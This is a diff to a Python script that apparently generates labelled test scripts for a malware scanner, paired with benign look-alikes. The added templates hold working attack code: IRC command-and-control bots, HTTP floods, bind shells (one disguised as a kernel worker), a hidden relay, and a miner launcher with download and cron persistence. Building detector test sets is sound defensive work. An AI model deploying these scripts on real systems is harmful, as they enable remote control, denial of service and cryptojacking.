@@ -697,6 +697,173 @@ def b_url_title_bot(g):
     return code % v
 
 
+# ---------------------------------------------------------------------------
+# round 6 (branch mail5): other spellings of bots, floods, bind shells,
+# proxies and miner launchers, and look-alikes (IRC library, maintainer
+# script, ssh tunnel keeper, a CI load test)
+
+
+def t6_py_irc_dispatch(g):
+    """Python IRC bot over a raw socket whose orders go through a table of
+    handlers; the shell handler is a function far from the parser."""
+    r = g.rng
+    g.lang = "py"
+    s, h = _names(r, 2)
+    v = {"s": s, "h": h, "host": r.choice(["irc.example.invalid", _ip(r)]), "port": r.choice([6667, 6697, 8080]),
+         "nick": "py" + str(r.randint(100, 999)), "ch": r.choice(["#x", "#cnc", "#b"])}
+    run = r.choice(["subprocess.getoutput(arg)", "os.popen(arg).read()",
+                    "subprocess.run(arg, shell=True, capture_output=True).stdout.decode()",
+                    "subprocess.check_output(arg, shell=True, stderr=subprocess.STDOUT).decode()"])
+    return ("#!/usr/bin/env python3\nimport socket, subprocess, os, time\n\n"
+            "def do_shell(%(s)s, target, arg):\n    out = " + run + "\n"
+            "    for line in out.splitlines()[:20]:\n        %(s)s.send(('PRIVMSG %%s :%%s\\r\\n' %% (target, line)).encode())\n\n"
+            "def do_get(%(s)s, target, arg):\n    os.system('wget -q -O /tmp/.u ' + arg)\n\n"
+            "HANDLERS = {'!sh': do_shell, '!get': do_get}\n\n"
+            "%(s)s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n%(s)s.connect(('%(host)s', %(port)d))\n"
+            "%(s)s.send(b'NICK %(nick)s\\r\\nUSER %(nick)s 0 * :x\\r\\n')\n%(s)s.send(b'JOIN %(ch)s\\r\\n')\n"
+            "buf = b''\nwhile True:\n    buf += %(s)s.recv(4096)\n    while b'\\r\\n' in buf:\n        line, buf = buf.split(b'\\r\\n', 1)\n"
+            "        line = line.decode(errors='ignore')\n        if line.startswith('PING'):\n            %(s)s.send(('PONG' + line[4:] + '\\r\\n').encode())\n"
+            "        elif ' PRIVMSG ' in line:\n            target = line.split()[2]\n            text = line.split(' :', 1)[1]\n"
+            "            word, _, arg = text.partition(' ')\n            if word in HANDLERS:\n                HANDLERS[word](%(s)s, target, arg)\n") % v
+
+
+def t6_sh_irc_bot(g):
+    """A shell IRC bot over bash's /dev/tcp (or ncat with a fifo): reads the
+    channel and evals what follows the trigger."""
+    r = g.rng
+    g.lang = "sh"
+    host = r.choice(["irc.example.invalid", _ip(r)])
+    nick = "sh" + str(r.randint(10, 99))
+    trig = r.choice(["!x", ".run", "@c"])
+    if r.random() < 0.6:
+        return ("#!/bin/bash\nexec 3<>/dev/tcp/%s/6667\necho -e \"NICK %s\\r\\nUSER %s 0 * :%s\\r\" >&3\necho -e \"JOIN #z\\r\" >&3\n"
+                "while read -r line <&3; do\n  case \"$line\" in\n    PING*) echo \"PONG ${line#PING }\" >&3 ;;\n"
+                "    *PRIVMSG*\"%s \"*) cmd=\"${line#*%s }\"; eval \"$cmd\" 2>&1 | head -5 | while read -r o; do echo \"PRIVMSG #z :$o\" >&3; done ;;\n"
+                "  esac\ndone\n") % (host, nick, nick, nick, trig, trig)
+    return ("#!/bin/sh\nf=/tmp/.f$$\nmkfifo $f\nncat %s 6667 < $f | while read -r l; do\n"
+            "  case \"$l\" in\n    PING*) echo \"PONG ${l#PING }\" ;;\n    *\"PRIVMSG\"*\"%s \"*) c=$(echo \"$l\" | sed 's/.*%s //'); sh -c \"$c\" 2>&1 | sed 's/^/PRIVMSG #z :/' ;;\n"
+            "  esac\ndone > $f &\n(echo \"NICK %s\"; echo \"USER %s 0 * :x\"; echo \"JOIN #z\") > $f\n") % (host, trig, trig, nick, nick)
+
+
+def t6_http_flood_php(g):
+    """t6_http_flood, the PHP page: the target and the duration from the request."""
+    g.lang = "php"
+    return t6_http_flood(g, "php")
+
+
+def t6_http_flood(g, lang=None):
+    """An HTTP flood: requests to a target taken from argv or the request, as
+    fast as threads or curl_multi allow, until a deadline."""
+    r = g.rng
+    lang = lang or "py"
+    g.lang = lang
+    if lang == "py":
+        return ("#!/usr/bin/env python3\nimport sys, threading, random, time, urllib.request\n"
+                "target, secs, nthreads = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])\nend = time.time() + secs\n"
+                "UA = ['Mozilla/5.0 (Windows NT 10.0)', 'Mozilla/5.0 (X11; Linux)']\n"
+                "def hammer():\n    while time.time() < end:\n        try:\n"
+                "            req = urllib.request.Request(target + '?' + str(random.randint(0, 10**9)), headers={'User-Agent': random.choice(UA), 'Cache-Control': 'no-cache'})\n"
+                "            urllib.request.urlopen(req, timeout=3).read(1)\n        except Exception:\n            pass\n"
+                "for _ in range(nthreads):\n    threading.Thread(target=hammer, daemon=True).start()\ntime.sleep(secs)\n")
+    return ("<?php\nset_time_limit(0);\nignore_user_abort(true);\n$url = $_GET['u'];\n$end = time() + (int)$_GET['t'];\n"
+            "while (time() < $end) {\n    $mh = curl_multi_init();\n    $hs = array();\n    for ($i = 0; $i < 50; $i++) {\n"
+            "        $c = curl_init($url . '?' . mt_rand());\n        curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\n        curl_setopt($c, CURLOPT_TIMEOUT, 2);\n"
+            "        curl_multi_add_handle($mh, $c);\n        $hs[] = $c;\n    }\n    do { curl_multi_exec($mh, $run); } while ($run > 0);\n"
+            "    foreach ($hs as $c) curl_multi_remove_handle($mh, $c);\n    curl_multi_close($mh);\n}\necho 'done';\n")
+
+
+def t6_bind_shell(g):
+    """A bind shell: listens on a port, and each connection gets a shell."""
+    r = g.rng
+    lang = r.choice(["py", "pl"])
+    g.lang = lang
+    port = r.choice([31337, 4444, 8081, 65000])
+    if lang == "py":
+        return ("#!/usr/bin/env python3\nimport socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+                "s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\ns.bind(('0.0.0.0', %d))\ns.listen(1)\n"
+                "while True:\n    c, a = s.accept()\n    if os.fork() == 0:\n        for fd in (0, 1, 2):\n            os.dup2(c.fileno(), fd)\n"
+                "        pty.spawn('/bin/bash')\n        os._exit(0)\n    c.close()\n") % port
+    return ("#!/usr/bin/perl\nuse IO::Socket::INET;\n$0 = '[kworker/0:1]';\n"
+            "my $srv = IO::Socket::INET->new(LocalPort => %d, Listen => 5, Reuse => 1, Proto => 'tcp') or exit;\n"
+            "while (my $c = $srv->accept) {\n    next if fork;\n    open(STDIN, '<&', $c);\n    open(STDOUT, '>&', $c);\n    open(STDERR, '>&', $c);\n"
+            "    exec('/bin/sh', '-i');\n}\n") % port
+
+
+def t6_tmp_proxy(g):
+    """A relay dropped in /tmp: listens locally and forwards to a fixed far end
+    (or a SOCKS-less port forward), detached with nohup."""
+    r = g.rng
+    g.lang = "py"
+    far = _ip(r)
+    return ("#!/usr/bin/env python3\n# started as: nohup python3 /tmp/.p.py >/dev/null 2>&1 &\nimport socket, select, threading, os\n"
+            "os.setsid() if hasattr(os, 'setsid') else None\nLISTEN, FAR = ('0.0.0.0', %d), ('%s', %d)\n"
+            "def pipe(a, b):\n    socks = [a, b]\n    while True:\n        r, _, _ = select.select(socks, [], [], 60)\n        if not r:\n            break\n"
+            "        for x in r:\n            d = x.recv(65536)\n            if not d:\n                return\n            (b if x is a else a).sendall(d)\n"
+            "srv = socket.socket()\nsrv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nsrv.bind(LISTEN)\nsrv.listen(50)\n"
+            "while True:\n    c, _ = srv.accept()\n    f = socket.create_connection(FAR)\n    threading.Thread(target=pipe, args=(c, f), daemon=True).start()\n") % (
+        r.choice([1080, 8888, 3128]), far, r.choice([443, 8443, 9001]))
+
+
+def t6_miner_sh(g):
+    """A miner's launcher in shell: fetch, unpack into a dot dir, start detached
+    with a pool and a wallet, keep it across reboots."""
+    r = g.rng
+    g.lang = "sh"
+    d = r.choice(["$HOME/.cache/.sys", "/tmp/.X11-lock", "/dev/shm/.k", "/var/tmp/.font-unix"])
+    pool = r.choice(["pool.example.invalid:3333", "%s:443" % _ip(r), "stratum+tcp://pool.example.invalid:4444"])
+    return ("#!/bin/sh\nD=%s\nmkdir -p $D && cd $D\n"
+            "command -v curl >/dev/null && curl -fsSL http://%s/x.tgz -o x.tgz || wget -q http://%s/x.tgz\n"
+            "tar xzf x.tgz && rm -f x.tgz && mv xmrig kthreadd\npkill -f xmrig; pkill -f minerd\n"
+            "nohup ./kthreadd -o %s -u 4%s -p x --cpu-max-threads-hint=%d -B >/dev/null 2>&1 &\n"
+            "(crontab -l 2>/dev/null; echo \"@reboot $D/kthreadd -o %s -u 4%s -B\") | crontab -\n") % (
+        d, _ip(r), _ip(r), pool, "A" * 20, r.choice([50, 75, 100]), pool, "A" * 20)
+
+
+def b6_irc_library(g):
+    """A legitimate IRC client library module: connect, register, dispatch
+    PRIVMSG to registered callbacks; runs nothing."""
+    g.lang = "py"
+    return ("\"\"\"Minimal IRC client.\"\"\"\nimport socket, ssl\n\nclass Client:\n    def __init__(self, host, port=6697, nick='bot'):\n"
+            "        self.host, self.port, self.nick = host, port, nick\n        self.handlers = {}\n\n"
+            "    def on(self, event):\n        def deco(fn):\n            self.handlers.setdefault(event, []).append(fn)\n            return fn\n        return deco\n\n"
+            "    def connect(self):\n        raw = socket.create_connection((self.host, self.port))\n        self.sock = ssl.create_default_context().wrap_socket(raw, server_hostname=self.host)\n"
+            "        self.send('NICK ' + self.nick)\n        self.send('USER %s 0 * :%s' % (self.nick, self.nick))\n\n"
+            "    def send(self, line):\n        self.sock.sendall((line + '\\r\\n').encode())\n\n"
+            "    def loop(self):\n        buf = b''\n        while True:\n            data = self.sock.recv(4096)\n            if not data:\n                break\n"
+            "            buf += data\n            while b'\\r\\n' in buf:\n                line, buf = buf.split(b'\\r\\n', 1)\n                self.dispatch(line.decode('utf-8', 'replace'))\n\n"
+            "    def dispatch(self, line):\n        if line.startswith('PING'):\n            self.send('PONG' + line[4:])\n            return\n"
+            "        parts = line.split(' ', 3)\n        if len(parts) > 3 and parts[1] == 'PRIVMSG':\n"
+            "            for fn in self.handlers.get('message', []):\n                fn(parts[2], parts[3][1:])\n")
+
+
+def b6_maint_script(g):
+    """A Debian maintainer script: creates a system user, enables the unit,
+    fixes permissions; nothing fetched."""
+    g.lang = "sh"
+    return ("#!/bin/sh\nset -e\ncase \"$1\" in\n  configure)\n    if ! getent passwd exampled >/dev/null; then\n"
+            "      adduser --system --group --home /var/lib/exampled --no-create-home exampled\n    fi\n"
+            "    chown exampled:exampled /var/lib/exampled\n    chmod 0750 /var/lib/exampled\n    ;;\nesac\n"
+            "if [ \"$1\" = \"configure\" ] || [ \"$1\" = \"abort-upgrade\" ]; then\n    deb-systemd-helper unmask exampled.service >/dev/null || true\n"
+            "    if deb-systemd-helper --quiet was-enabled exampled.service; then\n        deb-systemd-helper enable exampled.service >/dev/null || true\n    fi\nfi\n#DEBHELPER#\nexit 0\n")
+
+
+def b6_tunnel_keeper(g):
+    """An admin's ssh tunnel keeper: autossh to a fixed bastion, started from
+    cron if not running."""
+    g.lang = "sh"
+    return ("#!/bin/sh\n# keep the reporting tunnel to the bastion up (cron: */5 * * * *)\n"
+            "pgrep -f 'autossh.*reports-tunnel' >/dev/null && exit 0\n"
+            "autossh -M 0 -f -N -o ServerAliveInterval=30 -o ExitOnForwardFailure=yes -L 15432:db.internal.example:5432 reports-tunnel@bastion.example.com\n")
+
+
+def b6_ci_loadtest(g):
+    """A CI load test against the staging host, fixed URL, fixed duration."""
+    g.lang = "sh"
+    return ("#!/bin/sh\nset -eu\n# smoke load test after deploy\nURL=https://staging.example.com/health\n"
+            "wrk -t4 -c64 -d30s --latency \"$URL\" | tee wrk.txt\nab -n 2000 -c 20 \"$URL\" > ab.txt\n"
+            "grep -q 'Non-2xx' wrk.txt && exit 1 || exit 0\n")
+
+
 def _lang_of(fn):
     """The extension is decided by the template's choice (g.lang)."""
     return fn
@@ -726,6 +893,24 @@ BOT_TEMPLATES = [
     ("url_title_bot", b_url_title_bot, "benign", "auto", "none"),
 ]
 
+# round 6 (branch mail5): kept apart (botgen.py --set r6; tests/eval-mail.sh
+# --bots, tests/integration/scan_scripts6.sh) so that the round-2 set of
+# scan_scripts.sh and gen_variants.py is unchanged; expectation "any" for a
+# plain relay (a port forwarder in /tmp is suspicious, not proof)
+BOT6_TEMPLATES = [
+    ("r6_py_irc_dispatch", t6_py_irc_dispatch, "malicious", "auto", "high"),
+    ("r6_sh_irc_bot", t6_sh_irc_bot, "malicious", "auto", "high"),
+    ("r6_http_flood_php", t6_http_flood_php, "malicious", "auto", "high"),
+    ("r6_http_flood_cli", t6_http_flood, "malicious", "auto", "any"),
+    ("r6_bind_shell", t6_bind_shell, "malicious", "auto", "high"),
+    ("r6_tmp_proxy", t6_tmp_proxy, "malicious", "auto", "any"),
+    ("r6_miner_sh", t6_miner_sh, "malicious", "auto", "high"),
+    ("r6_irc_library", b6_irc_library, "benign", "auto", "none"),
+    ("r6_maint_script", b6_maint_script, "benign", "auto", "none"),
+    ("r6_tunnel_keeper", b6_tunnel_keeper, "benign", "auto", "none"),
+    ("r6_ci_loadtest", b6_ci_loadtest, "benign", "auto", "none"),
+]
+
 
 def main():
     """botgen.py --out DIR [--seed N] [--per N]: these templates' variants and
@@ -742,12 +927,13 @@ def main():
     ap.add_argument("--out", required=True)
     ap.add_argument("--seed", type=int, default=1)
     ap.add_argument("--per", type=int, default=8)
+    ap.add_argument("--set", choices=["r2", "r6"], default="r2", help="r2: rounds 2-5 (default); r6: round 6")
     a = ap.parse_args()
     out = safe_out_dir(a.out)
     os.makedirs(out, exist_ok=True)
     with open(os.path.join(out, "variants.tsv"), "w") as tsv:
         tsv.write("file\tclass\ttechnique\tlang\texpect\ttransforms\n")
-        for name, fn, cls, lang, expect in BOT_TEMPLATES:
+        for name, fn, cls, lang, expect in (BOT6_TEMPLATES if a.set == "r6" else BOT_TEMPLATES):
             for i in range(a.per):
                 tag = "bots2:%s:%s:%d" % (a.seed, name, i)
                 g = Gen(random.Random(tag), noise=False)
